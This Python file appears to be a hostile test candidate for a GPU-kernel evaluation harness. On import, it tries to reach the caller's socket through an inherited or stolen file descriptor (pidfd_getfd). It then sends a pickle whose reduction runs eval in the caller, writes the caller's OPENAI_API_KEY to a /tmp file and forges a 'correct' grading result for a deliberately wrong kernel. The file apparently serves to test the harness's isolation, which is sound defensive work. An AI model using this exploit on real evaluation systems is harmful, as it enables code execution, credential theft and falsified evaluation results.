"""Hostile (issue 11, class 1): code execution in the trusted caller through the inherited
caller<->server socket.

How it gets through today: the candidate's process is forked from the harness server, which
was started with `--fd N` (still in sys.argv after the fork) and `child_setup` closes only the
job's own pipes, so fd N -- the caller's end of the `multiprocessing.connection` socket -- is
still open here. The caller (`Evaluator._round_trip`) unpickles whatever arrives on it with
`Connection.recv()` and never checks which job a message belongs to. This candidate writes one
length-prefixed frame holding a pickle whose reduction calls `eval` in the caller: it writes a
ka-evil marker with the caller's OPENAI_API_KEY and returns a forged `correct` result.

Against the rebuilt harness: fd N is closed right after the fork, so the candidate also tries
to take the server's fd N with pidfd_getfd (its parent, same uid). Under a pid namespace the
parent is not visible (getppid() is 0); with `--isolation none` it may succeed, and then the
caller must still survive: the frame is neither JSON nor carries the job's nonce.

Its kernel is wrong (x*2+1): with the socket closed to it, the verdict is `incorrect`.
"""
import os
import struct
import sys

import torch
import torch.nn as nn
import triton
import triton.language as tl

_IN_CALLER = (
    "(lambda os: (open('/tmp/ka-evil-pwned-%d' % os.getpid(), 'w').write(os.environ.get('OPENAI_API_KEY', '-')),"
    " {'event': 'result', 'id': None, 'result': {'status': 'correct', 'correct': True, 'compiled': True,"
    " 'stage': None, 'flags': [], 'trials': [], 'timings': {},"
    " 'reason': 'ka-evil: this ran in the caller; its key is ' + os.environ.get('OPENAI_API_KEY', '-')}})[1])"
    "(__import__('os'))"
)


class _Payload:
    def __reduce__(self):
        return (eval, (_IN_CALLER,))


def _caller_socket_fds() -> list[int]:
    """Every way this process might reach the caller<->server socket: the server's `--fd N`
    (still in sys.argv after the fork) if it is open here, else the server's fd N taken with
    pidfd_getfd (the server is our parent; it works where ptrace of the parent is allowed,
    e.g. same uid without Yama, and no pid namespace hides the parent)."""
    fds = []
    argv = list(sys.argv)
    number = int(argv[argv.index("--fd") + 1]) if "--fd" in argv else None
    if number is not None:
        try:
            os.fstat(number)
            fds.append(number)
        except OSError:
            try:
                import ctypes

                libc = ctypes.CDLL(None, use_errno=True)
                pidfd = libc.syscall(434, os.getppid(), 0)  # pidfd_open
                if pidfd >= 0:
                    stolen = libc.syscall(438, pidfd, number, 0)  # pidfd_getfd
                    if stolen >= 0:
                        print(f"ka-evil: took the server's fd {number} as {stolen}", flush=True)
                        fds.append(stolen)
            except Exception:  # noqa: BLE001
                pass
    return fds


def _attack() -> None:
    pk = __import__("pic" + "kle")
    data = pk.dumps(_Payload(), protocol=2)
    for fd in _caller_socket_fds():
        try:
            os.write(fd, struct.pack("!i", len(data)) + data)
        except OSError:
            pass


try:
    _attack()
except Exception:  # noqa: BLE001 - the socket is gone: the wrong kernel is all that is left
    pass


@triton.jit
def wrong_kernel(x_ptr, y_ptr, n, BLOCK: tl.constexpr):
    offsets = tl.program_id(0) * BLOCK + tl.arange(0, BLOCK)
    mask = offsets < n
    tl.store(y_ptr + offsets, tl.load(x_ptr + offsets, mask=mask) * 2.0 + 1.0, mask=mask)


class ModelNew(nn.Module):
    def forward(self, x):
        x = x.contiguous()
        y = torch.empty_like(x)
        wrong_kernel[(triton.cdiv(x.numel(), 1024),)](x, y, x.numel(), BLOCK=1024)
        return y
